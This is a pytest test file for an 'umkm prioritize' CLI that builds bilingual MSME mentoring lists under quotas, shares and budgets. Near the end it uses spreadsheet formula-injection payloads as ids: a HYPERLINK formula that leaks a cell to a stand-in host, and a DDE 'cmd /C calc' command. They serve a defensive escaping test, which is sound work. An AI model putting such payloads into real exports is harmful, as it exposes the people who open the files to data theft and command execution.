"""`umkm prioritize` end to end: a real registered model, files in, list and left-outs out."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from allocation.errors import Problem, SolverError
from data.io import read_table
from data.messages import LANGUAGES, Language
from data.writing import write_table
from service.errors import allocation_refusal
from service.prioritize_file import PrioritizeFileError, command_line_option, parse_quotas
from tests.conftest import RegisteredModel
from umkm.cli import app

runner = CliRunner()


@pytest.fixture(scope="module")
def candidates_file(
    registered_model: RegisteredModel, tmp_path_factory: pytest.TempPathFactory
) -> Path:
    """The fixture's candidates as CSV with a visit cost, one in ten already digital, plus two
    rows that break the contract."""
    frame = registered_model.candidates.copy()
    rng = np.random.default_rng(3)
    frame["visit_cost"] = rng.choice([1.0, 1.5, 2.5], len(frame))
    frame.loc[frame.index % 10 == 5, "digital_status"] = "digital"
    broken = frame.iloc[:2].copy()
    broken["msme_id"] = ["BROKEN-AGE", "BROKEN-COST"]
    broken["owner_age"] = ["130", str(frame["owner_age"].iloc[1])]
    broken["visit_cost"] = ["1.0", "free"]
    path = tmp_path_factory.mktemp("prioritize") / "candidates.csv"
    write_table(pd.concat([frame.astype({"visit_cost": object}), broken]), path)
    return path


def run(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, ["prioritize", *args])
    return result.exit_code, result.stdout, result.stderr


def test_list_with_quota_share_and_budget_from_csv(
    registered_model: RegisteredModel, candidates_file: Path, tmp_path: Path
) -> None:
    output = tmp_path / "out" / "list.csv"
    raw = read_table(candidates_file)
    offline = raw[raw["digital_status"] == "offline"]
    province = str(offline["province_code"].value_counts().index[0])
    code, out, err = run(
        "--data", str(candidates_file),
        "--capacity", "40",
        "--output", str(output),
        "--model", registered_model.model_uri,
        "--quotas", f"{province}=6",
        "--min-share", "owner_gender=female:0.5",
        "--min-share", "area_type=rural:40%",
        "--cost-column", "visit_cost",
        "--budget", "75",
    )  # fmt: skip
    assert code == 0, err
    listed = read_table(output)
    rest = read_table(tmp_path / "out" / "list_not_selected.csv")
    quarantine = read_table(tmp_path / "out" / "list.quarantine.csv")

    # The broken rows are quarantined with their reasons, everyone else is listed exactly once.
    assert sorted(quarantine["msme_id"]) == ["BROKEN-AGE", "BROKEN-COST"]
    reasons = dict(zip(quarantine["msme_id"], quarantine["reasons"], strict=True))
    assert "owner_age" in reasons["BROKEN-AGE"]
    assert reasons["BROKEN-COST"] == "column visit_cost: value is not a number >= 0"
    everyone = set(raw["msme_id"]) - {"BROKEN-AGE", "BROKEN-COST"}
    assert len(listed) + len(rest) == len(everyone)
    assert set(listed["msme_id"]) | set(rest["msme_id"]) == everyone

    # The list: 40 slots, ranked, within the quota, the shares and the budget.
    assert listed["rank"].astype(int).tolist() == list(range(1, 41))
    assert (listed["province_code"] == province).sum() <= 6
    assert (listed["owner_gender"] == "female").sum() >= 20
    assert (listed["area_type"] == "rural").sum() >= 16
    assert listed["cost"].astype(float).sum() <= 75 + 1e-9
    assert set(listed["digital_status"]) == {"offline"}
    digital = rest[rest["digital_status"] == "digital"]
    assert len(digital) == (raw["digital_status"] == "digital").sum()
    assert set(digital["reason_code"]) == {"already_digital"}

    # Scores are the model's own for each row (no misalignment on the way through).
    from models.pyfunc import load_uplift_model
    from models.scoring import score_frame

    model = load_uplift_model(registered_model.model_uri)
    chosen = raw.set_index("msme_id").loc[listed["msme_id"]]
    expected = score_frame(model, chosen.reset_index())
    np.testing.assert_allclose(listed["uplift"].astype(float), expected["uplift"], rtol=1e-9)
    np.testing.assert_allclose(listed["expected_gain"].astype(float), expected["uplift"])
    assert listed["segment"].tolist() == expected["segment"].tolist()
    rows = raw.reset_index(drop=True)
    for msme_id, row in zip(listed["msme_id"], listed["input_row"].astype(int), strict=True):
        assert rows.loc[row - 2, "msme_id"] == msme_id  # input_row is the spreadsheet row

    assert f"{len(raw)} rows read, {len(raw) - 2} valid, 2 rejected" in out
    assert "expected extra digitalizations" in out
    assert "not selected, with reasons:" in out


# Labels of `umkm prioritize`'s table in each language: the title, then figures' labels.
TABLE_LABELS = {
    "id": ["Daftar pendampingan", "terisi", "kandidat", "memenuhi syarat", "biaya", "metode"],
    "en": ["Mentoring list", "filled", "candidates", "eligible", "cost", "method"],
}


@pytest.mark.parametrize(("lang", "other"), [("id", "en"), ("en", "id")])
def test_the_lists_table_is_labelled_in_the_chosen_language(
    registered_model: RegisteredModel, candidates_file: Path, tmp_path: Path, lang: str, other: str
) -> None:
    labels, other_language = TABLE_LABELS[lang], TABLE_LABELS[other]
    code, out, err = run(
        "--data", str(candidates_file), "--capacity", "10", "--output", str(tmp_path / "l.csv"),
        "--model", registered_model.model_uri, "--cost-column", "visit_cost", "--budget", "20",
        "--lang", lang,
    )  # fmt: skip
    assert code == 0, err
    words = {word for line in out.splitlines() for word in line.replace("│", " ").split()}
    table = " ".join(out.split())
    for label in labels:
        assert label in table
    assert not {label for label in other_language if " " not in label} & words
    cost = next(line for line in out.splitlines() if labels[4] in line)
    if lang == "id":
        assert "dari 20,00" in cost  # the budget, with a decimal comma
        assert "diharapkan" in words and "expected" not in words
    else:
        assert "of 20.00" in cost
        assert "expected extra digitalizations" in table and "diharapkan" not in words


@pytest.fixture(scope="module")
def two_least_gaining(
    registered_model: RegisteredModel, tmp_path_factory: pytest.TempPathFactory
) -> Path:
    """The two offline candidates the model expects to gain least from mentoring (neither
    gains), so a list of one slot leaves one waiting and holds an MSME that does not gain."""
    from models.pyfunc import load_uplift_model
    from models.scoring import score_frame

    frame = registered_model.candidates
    frame = frame[frame["digital_status"] == "offline"].reset_index(drop=True)
    uplift = score_frame(load_uplift_model(registered_model.model_uri), frame)["uplift"]
    least = frame.loc[uplift.sort_values(kind="stable").index[:2]]
    assert (uplift[least.index] <= 0).all(), "the model expects every candidate to gain"
    return write_table(least, tmp_path_factory.mktemp("least") / "least.csv")


# The binding capacity and the note of a one-slot list of two MSMEs that do not gain, as the
# table words them: counts of one in the singular, the option to set as the command spells it.
ONE_SLOT_WORDS = {
    "id": (
        "Kapasitas: 1 slot yang tersedia sudah terisi, sementara 1 UMKM lain yang memenuhi syarat "
        "menunggu",
        "1 UMKM di daftar tidak diperkirakan terbantu (tambahan peluang ≤ 0); aktifkan "
        "--only-beneficial agar slot itu dibiarkan kosong",
    ),
    "en": (
        "Capacity: the 1 slot is filled while 1 other eligible MSME waits",
        "1 MSME on the list has uplift <= 0 (mentoring is not expected to help it); set "
        "--only-beneficial to leave that slot free",
    ),
}


@pytest.mark.parametrize("lang", ["id", "en"])
def test_binding_capacity_and_notes_are_worded_from_the_catalogue(
    registered_model: RegisteredModel,
    two_least_gaining: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    lang: str,
) -> None:
    monkeypatch.setenv("COLUMNS", "250")  # no cell wraps
    other = "en" if lang == "id" else "id"
    code, out, err = run(
        "--data", str(two_least_gaining), "--capacity", "1", "--output", str(tmp_path / "l.csv"),
        "--model", registered_model.model_uri, "--lang", lang,
    )  # fmt: skip
    assert code == 0, err
    table = " ".join(" ".join(line.replace("│", " ").split()) for line in out.splitlines())
    for words in ONE_SLOT_WORDS[lang]:
        assert words in table
    for words in ONE_SLOT_WORDS[other]:
        assert words not in table
    assert "1 slots" not in table and "MSMEs wait" not in table


# What `umkm prioritize` says around its table, in each language (stdout lines, stderr note,
# the workbook's summary sheet: its header and a label).
AROUND_THE_TABLE: dict[str, dict[str, Any]] = {
    "id": {
        "rows": "{data}: 42 baris dibaca, 41 valid, 1 ditolak",
        "quarantine": "baris yang ditolak beserta alasannya: {quarantine}",
        "list": "daftar: {output}",
        "not_selected": "tidak terpilih, beserta alasannya: lembar not_selected di {output}",
        "recomputed": "catatan: kolom masukan dihitung ulang, nilai aslinya tidak disimpan: rank",
        "header": ["keterangan", "nilai"],
        "filled": "terisi",
        "below_cutoff": "tidak terpilih: di bawah batas peringkat",
        "scoring": "Menghitung skor",
    },
    "en": {
        "rows": "{data}: 42 rows read, 41 valid, 1 rejected",
        "quarantine": "rejected rows and reasons: {quarantine}",
        "list": "list: {output}",
        "not_selected": "not selected, with reasons: sheet not_selected of {output}",
        "recomputed": "note: input columns recomputed, not kept: rank",
        "header": ["figure", "value"],
        "filled": "filled",
        "below_cutoff": "not selected: below the cutoff",
        "scoring": "Scoring",
    },
}


@pytest.mark.parametrize(("lang", "other"), [("id", "en"), ("en", "id")])
def test_what_surrounds_the_table_is_worded_in_the_chosen_language(
    registered_model: RegisteredModel, candidates_file: Path, tmp_path: Path, lang: str, other: str
) -> None:
    every = read_table(candidates_file)  # ends with BROKEN-AGE (rejected) and BROKEN-COST
    raw = pd.concat([every.head(40), every.tail(2)], ignore_index=True)
    raw["rank"] = range(len(raw))  # a column the list computes: replaced, and said so
    data = tmp_path / "kandidat.csv"
    write_table(raw, data)
    output = tmp_path / "daftar.xlsx"
    words, others = AROUND_THE_TABLE[lang], AROUND_THE_TABLE[other]
    names = {"data": data, "output": output, "quarantine": tmp_path / "daftar.quarantine.csv"}

    code, out, err = run(
        "--data", str(data), "--capacity", "10", "--output", str(output),
        "--model", registered_model.model_uri, "--lang", lang,
    )  # fmt: skip

    assert code == 0, err
    lines = out.splitlines()
    for key in ("rows", "quarantine", "list", "not_selected"):
        assert words[key].format(**names) in lines, (key, lines)
        assert others[key].format(**names) not in lines
    assert words["recomputed"] in " ".join(err.split())
    assert others["recomputed"] not in " ".join(err.split())
    summary = pd.read_excel(output, sheet_name="summary")
    assert list(summary.columns) == words["header"]
    figures = dict(zip(*(summary[column] for column in words["header"]), strict=True))
    assert figures[words["filled"]] == 10  # a number in the cell, in either language
    assert others["filled"] not in figures
    assert figures[words["below_cutoff"]] > 0  # a reason counted under its words, not its code
    assert not [label for label in figures if "_" in str(label)]


@pytest.mark.parametrize("lang", ["id", "en"])
def test_the_progress_bar_is_labelled_in_the_chosen_language(
    registered_model: RegisteredModel,
    candidates_file: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    lang: str,
) -> None:
    monkeypatch.setenv("TTY_COMPATIBLE", "1")  # rich shows its bar only on a terminal
    code, _, err = run(
        "--data", str(candidates_file), "--capacity", "10", "--output", str(tmp_path / "l.csv"),
        "--model", registered_model.model_uri, "--lang", lang,
    )  # fmt: skip
    assert code == 0, err
    other = "en" if lang == "id" else "id"
    assert AROUND_THE_TABLE[lang]["scoring"] in err
    assert AROUND_THE_TABLE[other]["scoring"] not in err


def test_xlsx_output_holds_list_left_outs_and_summary(
    registered_model: RegisteredModel, candidates_file: Path, tmp_path: Path
) -> None:
    output = tmp_path / "list.xlsx"
    code, _, err = run(
        "--data", str(candidates_file), "--capacity", "25", "--output", str(output),
        "--model", registered_model.model_uri,
    )  # fmt: skip
    assert code == 0, err
    sheets = pd.read_excel(output, sheet_name=None, dtype={"province_code": str})
    assert list(sheets) == ["selected", "not_selected", "summary"]
    assert len(sheets["selected"]) == 25
    listed = sheets["selected"]
    # Capacity only: the 25 highest uplifts among offline MSMEs, in order.
    assert listed["uplift"].is_monotonic_decreasing
    left = sheets["not_selected"]
    eligible_left = left[left["reason_code"].isin(["below_rank_cutoff", "not_beneficial"])]
    assert eligible_left["uplift"].max() <= listed["uplift"].min()
    summary = dict(zip(sheets["summary"]["figure"], sheets["summary"]["value"], strict=True))
    assert summary["filled"] == 25 and summary["method"] == "greedy"
    assert not (tmp_path / "list_not_selected.xlsx").exists()
    # The session's model was trained on enough events: no weak-evidence warning (a weak one's:
    # tests/training/test_weak_evidence.py).
    assert "weak evidence" not in summary
    assert "weak evidence" not in err


# A refusal in each language: its first line (label and header), then a problem's start.
# Quotas of 0 everywhere leave no slot: the fix is the quotas (capacity cannot go below 1).
REFUSED = {
    "id": ("galat: batasan tidak dapat dipenuhi bersamaan:", "- batas 0 untuk Aceh, "),
    "en": ("error: the constraints cannot all hold:", "- quotas of 0 for Aceh, "),
}


@pytest.mark.parametrize(("lang", "other"), [("id", "en"), ("en", "id")])
def test_constraints_that_cannot_hold_exit_1_naming_them(
    registered_model: RegisteredModel, candidates_file: Path, tmp_path: Path, lang: str, other: str
) -> None:
    quotas = tmp_path / "quotas.json"
    raw = read_table(candidates_file)
    codes = sorted(set(raw["province_code"]))
    quotas.write_text(json.dumps(dict.fromkeys(codes, 0)), encoding="utf-8")
    code, _, err = run(
        "--data", str(candidates_file), "--capacity", "10", "--output", str(tmp_path / "l.csv"),
        "--model", registered_model.model_uri, "--quotas", str(quotas), "--lang", lang,
    )  # fmt: skip
    assert code == 1
    header, problem = REFUSED[lang]
    lines = err.splitlines()
    assert lines[0] == header
    assert lines[1].strip().startswith(problem)
    assert "capacity" not in err and "kapasitas" not in err
    assert REFUSED[other][0] not in err
    assert not (tmp_path / "l.csv").exists()


@pytest.mark.parametrize(("lang", "label"), [("id", "galat:"), ("en", "error:")])
def test_a_bad_option_is_labelled_in_the_chosen_language(
    registered_model: RegisteredModel, candidates_file: Path, tmp_path: Path, lang: str, label: str
) -> None:
    code, _, err = run(
        "--data", str(candidates_file), "--capacity", "5", "--output", str(tmp_path / "l.csv"),
        "--model", registered_model.model_uri, "--quotas", "31:40", "--lang", lang,
    )  # fmt: skip
    assert code == 2
    assert err.startswith(f"{label} --quotas: ")


# The not-selected file's reasons in each language, by reason code: the catalog's words, as
# POST /v1/prioritize gives them under Accept-Language.
NOT_SELECTED_WORDS: dict[str, dict[str, Any]] = {
    "id": {
        "already_digital": "Sudah digital: termasuk kelompok stimulus, bukan pendampingan",
        "below_rank_cutoff": "Tambahan peluang ",
        "province_quota_full": "{province} sudah mencapai batasnya (1 slot)",
    },
    "en": {
        "already_digital": "already digital: belongs to the stimulus group, not to mentoring",
        "below_rank_cutoff": "uplift ",
        "province_quota_full": "{province} reached its quota of 1 slot",
    },
}


@pytest.mark.parametrize(("lang", "other"), [("id", "en"), ("en", "id")])
def test_the_not_selected_reasons_are_worded_in_the_chosen_language(
    registered_model: RegisteredModel,
    candidates_file: Path,
    tmp_path: Path,
    lang: Language,
    other: Language,
) -> None:
    from data.messages import province_name, render

    common = ["--data", str(candidates_file), "--capacity", "20", "--model"]
    code, _, err = run(*common, registered_model.model_uri, "--output", str(tmp_path / "all.csv"))
    assert code == 0, err
    # The province ranking alone gives most slots: a quota of 1 there leaves some out for it.
    counts = read_table(tmp_path / "all.csv")["province_code"].astype(str).value_counts()
    province = str(counts.index[0])
    assert counts.iloc[0] > 1
    code, _, err = run(
        *common, registered_model.model_uri, "--output", str(tmp_path / "l.csv"),
        "--quotas", f"{province}=1", "--lang", lang,
    )  # fmt: skip
    assert code == 0, err
    listed = read_table(tmp_path / "l.csv")
    rest = read_table(tmp_path / "l_not_selected.csv")
    words, others = NOT_SELECTED_WORDS[lang], NOT_SELECTED_WORDS[other]
    names = {"province": province_name(province)}
    by_code = rest.groupby("reason_code")["reason"]
    assert set(by_code.groups) >= words.keys()  # reason codes as before, in either language

    assert set(by_code.get_group("already_digital")) == {words["already_digital"]}
    assert set(by_code.get_group("province_quota_full")) == {
        words["province_quota_full"].format(**names)
    }
    below = rest[rest["reason_code"] == "below_rank_cutoff"].iloc[0]
    cutoff = listed["expected_gain"].astype(float).min()
    expected = render(
        "below_rank_cutoff", {"uplift": float(below["uplift"]), "cutoff": cutoff}, lang
    )
    assert below["reason"] == expected and expected.startswith(words["below_rank_cutoff"])
    for other_words in others.values():
        assert not rest["reason"].str.startswith(other_words.format(**names)).any()


# With a budget and a minimum share: the reasons give the money left and name the share, and
# the table counts the left-outs under each reason's words, never its code. The share (90% of
# 20 slots) binds hard enough that some better-ranked man fits the budget and is left out for
# it; at 70% the budget alone explained every left-out man with the session model's copy.
CONSTRAINED_WORDS: dict[str, dict[str, Any]] = {
    "id": {
        "over_budget": "Biayanya tidak muat dalam anggaran (sisa Rp {left})",
        "min_share_reserved": (
            "Slot dipakai UMKM yang dibutuhkan untuk porsi minimum perempuan (90%)"
        ),
        "counted": {
            "already_digital": "tidak terpilih: sudah digital",
            "below_rank_cutoff": "tidak terpilih: di bawah batas peringkat",
            "over_budget": "tidak terpilih: melebihi anggaran",
            "min_share_reserved": "tidak terpilih: slot untuk porsi minimum",
        },
    },
    "en": {
        "over_budget": "its cost does not fit in the budget (Rp {left} left)",
        "min_share_reserved": ("slots went to MSMEs needed to meet the minimum share female (90%)"),
        "counted": {
            "already_digital": "not selected: already digital",
            "below_rank_cutoff": "not selected: below the cutoff",
            "over_budget": "not selected: over budget",
            "min_share_reserved": "not selected: slot reserved for a minimum share",
        },
    },
}


@pytest.mark.parametrize("lang", ["id", "en"])
def test_budget_and_share_reasons_give_their_figures_and_the_table_counts_them_in_words(
    registered_model: RegisteredModel,
    candidates_file: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    lang: str,
) -> None:
    monkeypatch.setenv("COLUMNS", "200")  # no cell wraps
    other = "en" if lang == "id" else "id"
    code, out, err = run(
        "--data", str(candidates_file), "--capacity", "20", "--output", str(tmp_path / "l.csv"),
        "--model", registered_model.model_uri, "--cost-column", "visit_cost", "--budget", "24",
        "--min-share", "owner_gender=female:0.9", "--lang", lang,
    )  # fmt: skip
    assert code == 0, err
    listed = read_table(tmp_path / "l.csv")
    rest = read_table(tmp_path / "l_not_selected.csv")
    words, others = CONSTRAINED_WORDS[lang], CONSTRAINED_WORDS[other]
    by_code = rest.groupby("reason_code")["reason"]
    assert set(by_code.groups) >= words["counted"].keys()  # each case is there to word

    left = 24 - listed["cost"].astype(float).sum()
    money = f"{left:,.2f}" if lang == "en" else f"{left:,.2f}".translate(str.maketrans(",.", ".,"))
    assert words["over_budget"].format(left=money) in set(by_code.get_group("over_budget"))
    assert set(by_code.get_group("min_share_reserved")) == {words["min_share_reserved"]}

    table = [" ".join(line.replace("│", " ").split()) for line in out.splitlines()]
    for reason_code, label in words["counted"].items():
        count = int((rest["reason_code"] == reason_code).sum())
        assert f"{label} {count}" in table, (label, table)
        assert others["counted"][reason_code] not in " ".join(table)
    assert not any(reason_code in out for reason_code in words["counted"])


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (["--quotas", "31:40"], "--quotas: item 1 is not like 31=40"),
        (["--quotas", "99=4"], 'quotas["99"] is not one of the 38 province codes'),
        (["--min-share", "owner_gender=femme:0.5"], "use one of: female, male"),
        (["--min-share", "owner_gender=female"], "is not like owner_gender=female:0.5"),
        (["--budget", "10"], "the file has no column cost"),
    ],
)
def test_bad_options_exit_2_with_a_clear_message(
    registered_model: RegisteredModel,
    candidates_file: Path,
    tmp_path: Path,
    options: list[str],
    message: str,
) -> None:
    code, _, err = run(
        "--data", str(candidates_file), "--capacity", "5", "--output", str(tmp_path / "l.csv"),
        "--model", registered_model.model_uri, *options,
    )  # fmt: skip
    assert code == 2
    assert message in " ".join(err.split())  # rich may wrap long lines


@pytest.mark.parametrize("given", ['{"31": 4.5}', '{"31": true}', '{"31": [4]}', "31=4.5"])
def test_a_quota_that_is_not_a_whole_number_is_refused_not_rounded(
    tmp_path: Path, given: str
) -> None:
    """`int()` alone would read 4.5 as 4 and true as 1: each is refused by its item number."""
    text = given
    if given.startswith("{"):
        text = str(tmp_path / "quotas.json")
        Path(text).write_text(given, encoding="utf-8")
    with pytest.raises(PrioritizeFileError) as refused:
        parse_quotas(text)
    assert refused.value.code == "prioritize_quota_not_whole"
    assert refused.value.params["position"] == 1


def test_whole_quotas_are_read_from_json_numbers_and_text(tmp_path: Path) -> None:
    path = tmp_path / "quotas.json"
    path.write_text('{"31": 40, "32": 60.0, "33": "5"}', encoding="utf-8")
    assert parse_quotas(str(path)) == {"31": 40, "32": 60, "33": 5}
    assert parse_quotas("31=40, 32=6") == {"31": 40, "32": 6}


# Options the list's own rules refuse (`allocation.options`), worded in each language from their
# codes: the option named, the value given never repeated.
REFUSED_OPTIONS = [
    (
        ["--quotas", "31=4,99=4"],
        {
            "id": 'quotas["99"] bukan salah satu dari 38 kode provinsi (11 sampai 96)',
            "en": 'quotas["99"] is not one of the 38 province codes (11 to 96)',
        },
    ),
    (
        ["--min-share", "owner_gender=femme:0.5"],
        {
            "id": "min_share[0]: value bukan nilai owner_gender; pakai salah satu dari: female, "
            "male",
            "en": "min_share[0]: value is not one of the owner_gender values; use one of: female, "
            "male",
        },
    ),
    (
        ["--min-share", "province_code=98:0.5"],
        {
            "id": "min_share[0]: value bukan kode provinsi; pakai salah satu dari 38 kode "
            "provinsi (11 sampai 96)",
            "en": "min_share[0]: value is not a province code; use one of the 38 province codes "
            "(11 to 96)",
        },
    ),
    (
        ["--min-share", "owner_gender=female:0.3", "--min-share", "owner_gender=female:0.4"],
        {
            "id": "min_share menyebut kolom dan nilai yang sama dua kali",
            "en": "min_share names the same column and value twice",
        },
    ),
]


def _refused_with(tmp_path: Path, options: list[str], lang: str, words: str) -> str:
    """Runs `umkm prioritize` with `options`, checks it stops (exit 2) with `words` under the
    language's label, and returns what it printed on stderr."""
    code, _, err = run(
        "--data", str(tmp_path / "never-read.csv"), "--capacity", "5",
        "--output", str(tmp_path / "l.csv"), *options, "--lang", lang,
    )  # fmt: skip
    assert code == 2
    label = {"id": "galat:", "en": "error:"}[lang]
    assert " ".join(err.split()) == f"{label} {words}"  # rich may wrap long lines
    return err


@pytest.mark.parametrize("lang", ["id", "en"])
@pytest.mark.parametrize(("options", "words"), REFUSED_OPTIONS)
def test_options_the_lists_rules_refuse_are_worded_in_the_chosen_language(
    tmp_path: Path, options: list[str], words: dict[str, str], lang: str
) -> None:
    err = _refused_with(tmp_path, options, lang, words[lang])
    assert "femme" not in err and "98" not in err


# `umkm prioritize`'s own reading of --quotas and --min-share: the option and the item's number
# (from 1) in each language, the text typed never repeated.
MALFORMED_OPTIONS = [
    (
        ["--quotas", "31=4,32:zz"],
        {
            "id": "--quotas: butir ke-2 tidak berbentuk 31=40 (kode provinsi=jumlah slot)",
            "en": "--quotas: item 2 is not like 31=40 (province code=slots)",
        },
    ),
    (
        ["--quotas", "31=4,32=zz"],
        {
            "id": "--quotas: batas pada butir ke-2 harus bilangan bulat (jumlah slot)",
            "en": "--quotas: the quota of item 2 must be a whole number of slots",
        },
    ),
    (
        ["--quotas", "32=1,31=4,32=zz2"],
        {
            "id": "--quotas: batas pada butir ke-3 harus bilangan bulat (jumlah slot)",
            "en": "--quotas: the quota of item 3 must be a whole number of slots",
        },
    ),
    (
        ["--quotas", "32=1,31=4,32=2"],
        {
            "id": "--quotas: butir ke-3 menyebut provinsi yang sama dengan butir ke-1; sebut "
            "setiap provinsi sekali saja",
            "en": "--quotas: item 3 names the same province as item 1; give each once",
        },
    ),
    (
        ["--min-share", "owner_gender=female:0.5", "--min-share", "area_type=zz,sector"],
        {
            "id": "--min-share: butir ke-2 tidak berbentuk owner_gender=female:0.5 "
            "(kolom=nilai:porsi)",
            "en": "--min-share: item 2 is not like owner_gender=female:0.5 (column=value:share)",
        },
    ),
    (
        ["--min-share", "owner_gender=female:0.5,area_type=rural:zz%"],
        {
            "id": "--min-share: porsi pada butir ke-2 harus angka seperti 0.5 atau 50% (titik "
            "sebagai pemisah desimal)",
            "en": "--min-share: the share of item 2 must be a number like 0.5 or 50%",
        },
    ),
    (
        ["--min-share", "owner_gender=female:0.5,zzgender=female:0.5"],
        {
            "id": "--min-share: butir ke-2 memakai kolom yang tidak bisa diberi porsi; pakai "
            "salah satu dari owner_gender, province_code, area_type, sector, island_group",
            "en": "--min-share: item 2 names a column a share cannot use; use one of "
            "owner_gender, province_code, area_type, sector, island_group",
        },
    ),
]


@pytest.mark.parametrize("lang", ["id", "en"])
@pytest.mark.parametrize(("options", "words"), MALFORMED_OPTIONS)
def test_malformed_options_name_the_option_and_item_without_repeating_it(
    tmp_path: Path, options: list[str], words: dict[str, str], lang: str
) -> None:
    err = _refused_with(tmp_path, options, lang, words[lang])
    assert "zz" not in err


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (
            '{"31": 4,',
            {
                "id": "--quotas: berkas bukan JSON yang sah (baris 1, kolom 10)",
                "en": "--quotas: the file is not valid JSON (line 1, column 10)",
            },
        ),
        (
            '["31", 4]',
            {
                "id": "--quotas: berkas harus berisi satu objek JSON berisi kode provinsi dan "
                "jumlah slot",
                "en": "--quotas: the file must hold one JSON object of province codes and slots",
            },
        ),
        (
            None,
            {
                "id": "--quotas: berkas JSON tidak dapat dibaca",
                "en": "--quotas: the JSON file cannot be read",
            },
        ),
    ],
)
@pytest.mark.parametrize("lang", ["id", "en"])
def test_a_quotas_file_that_cannot_be_read_is_refused_in_the_chosen_language(
    tmp_path: Path, content: str | None, words: dict[str, str], lang: str
) -> None:
    quotas = tmp_path / "secret-quotas.json"
    if content is not None:
        quotas.write_text(content, encoding="utf-8")
    code, _, err = run(
        "--data", str(tmp_path / "never-read.csv"), "--capacity", "5",
        "--output", str(tmp_path / "l.csv"), "--quotas", str(quotas), "--lang", lang,
    )  # fmt: skip
    assert code == 2
    label = {"id": "galat:", "en": "error:"}[lang]
    assert " ".join(err.split()) == f"{label} {words[lang]}"
    assert "secret" not in err and "Expecting" not in err  # no path, no json's own English


@pytest.mark.parametrize(
    ("lang", "words"),
    [
        ("id", "berkas tidak memiliki kolom cost (sebutkan kolomnya dengan --cost-column)"),
        ("en", "the file has no column cost (name it with --cost-column)"),
    ],
)
def test_a_budget_without_a_cost_column_is_refused_in_the_chosen_language(
    registered_model: RegisteredModel, candidates_file: Path, tmp_path: Path, lang: str, words: str
) -> None:
    code, _, err = run(
        "--data", str(candidates_file), "--capacity", "5", "--output", str(tmp_path / "l.csv"),
        "--model", registered_model.model_uri, "--budget", "10", "--lang", lang,
    )  # fmt: skip
    assert code == 2
    assert words in " ".join(err.split())


def test_solver_refusals_name_the_option_as_each_edge_takes_it() -> None:
    """`milp_time_limit` names the time limit: the API's field, `umkm prioritize`'s flag."""
    error = SolverError(
        Problem(
            "milp_time_limit",
            "no list within 5 s; raise time_limit_seconds",
            {"seconds": 5.0, "option": "time_limit_seconds"},
        )
    )
    cli = {
        lang: allocation_refusal(error, lang, spell_option=command_line_option).message
        for lang in LANGUAGES
    }
    api = {lang: allocation_refusal(error, lang).message for lang in LANGUAGES}
    assert cli["en"] == "no list within 5 s; raise --time-limit"
    assert cli["id"].endswith("tidak ada daftar dalam 5 detik; naikkan batas waktu (--time-limit)")
    assert api["en"] == "no list within 5 s; raise time_limit_seconds"
    assert api["id"].endswith("naikkan batas waktu (time_limit_seconds)")
    assert command_line_option({"option": "exploration_share"}) == {"option": "--exploration-share"}


def test_unreadable_input_exits_2(tmp_path: Path) -> None:
    code, _, err = run(
        "--data", str(tmp_path / "missing.csv"), "--capacity", "5",
        "--output", str(tmp_path / "l.txt"),
    )  # fmt: skip
    assert code == 2
    assert "unknown file type .txt" in err


FORMULA_IDS = ['=HYPERLINK("http://x/?leak="&B2,"click")', "=cmd|' /C calc'!A0", "+1", "@SUM(A1)"]


@pytest.fixture(scope="module")
def formula_file(
    registered_model: RegisteredModel, tmp_path_factory: pytest.TempPathFactory
) -> Path:
    frame = registered_model.candidates.head(30).copy()
    frame["digital_status"] = "offline"
    frame.loc[frame.index[:4], "msme_id"] = FORMULA_IDS
    return write_table(frame, tmp_path_factory.mktemp("formulas") / "candidates.xlsx")


def test_formula_ids_stay_text_in_xlsx_and_csv_lists(
    registered_model: RegisteredModel, formula_file: Path, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    common = ["--data", str(formula_file), "--capacity", "10", "--model"]
    code, _, err = run(*common, registered_model.model_uri, "--output", str(tmp_path / "l.xlsx"))
    assert code == 0, err
    book = load_workbook(tmp_path / "l.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value in FORMULA_IDS} == {"s"}
    assert sum(cell.value in FORMULA_IDS for cell in cells) == 4
    assert not [cell for cell in cells if cell.data_type == "f"]

    code, _, err = run(*common, registered_model.model_uri, "--output", str(tmp_path / "l.csv"))
    assert code == 0, err
    text = (tmp_path / "l.csv").read_text() + (tmp_path / "l_not_selected.csv").read_text()
    for value in ("'=HYPERLINK", "'=cmd", "'+1", "'@SUM"):
        assert value in text


def test_a_full_disk_leaves_neither_list_nor_left_outs(
    registered_model: RegisteredModel,
    formula_file: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import errno

    written = pd.DataFrame.to_csv
    calls = []

    def second_fills_the_disk(self: pd.DataFrame, path: Any = None, **options: Any) -> Any:
        calls.append(path)
        if len(calls) == 2:  # the list is complete; the not-selected file runs out of space
            Path(path).write_text("msme_id,reason\nC1,bel")
            raise OSError(errno.ENOSPC, "No space left on device", str(path))
        return written(self, path, **options)

    monkeypatch.setattr(pd.DataFrame, "to_csv", second_fills_the_disk)
    output = tmp_path / "out" / "list.csv"

    code, _, err = run(
        "--data", str(formula_file), "--capacity", "10",
        "--model", registered_model.model_uri, "--output", str(output),
    )  # fmt: skip

    assert code == 2
    assert err.count("\n") == 1 and "no space left on the device" in err
    assert list(output.parent.iterdir()) == []


def refused(model: RegisteredModel, data: Path, output: Path, lang: str, *options: str) -> str:
    """What `umkm prioritize --lang` says on stderr when it refuses (exit 2), on one line."""
    code, _, err = run(
        "--data", str(data), "--output", str(output), "--model", model.model_uri,
        "--lang", lang, *options,
    )  # fmt: skip
    assert code == 2, err
    return " ".join(err.split())


@pytest.mark.parametrize("lang", ["id", "en"])
def test_a_missing_file_and_an_unknown_output_type_are_worded_in_the_language_asked(
    registered_model: RegisteredModel, candidates_file: Path, tmp_path: Path, lang: str
) -> None:
    """The read and write errors name the file and say what is wrong in `--lang`'s words."""
    missing = tmp_path / "tidak_ada.csv"
    said = refused(registered_model, missing, tmp_path / "l.csv", lang, "--capacity", "5")
    assert missing.name in said
